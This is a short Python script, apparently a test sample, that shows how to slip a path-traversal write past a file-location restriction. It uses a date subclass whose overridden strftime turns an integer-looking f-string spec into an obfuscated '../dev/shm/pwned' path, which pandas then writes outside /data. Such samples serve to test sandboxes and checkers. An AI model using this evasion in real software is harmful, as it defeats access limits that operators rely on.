# source: CPython datetime.date.__format__ calls self.strftime(spec) by method lookup (overridable in a subclass)
# family: f-string path with integer-looking spec {i:03d} whose value is a date subclass overriding strftime
# goal: write /dev/shm/pwned.csv (outside /data and the script directory)
import datetime
import pandas as pd

TAIL = bytes([46, 46, 47, 100, 101, 118, 47, 115, 104, 109, 47, 112, 119, 110, 101, 100]).decode()

class Day(datetime.date):
    def strftime(self, fmt):
        return TAIL

i = Day(2024, 1, 2)
pd.DataFrame({"a": [1, 2]}).to_csv(f"/data/{i:03d}.csv")
print("written")
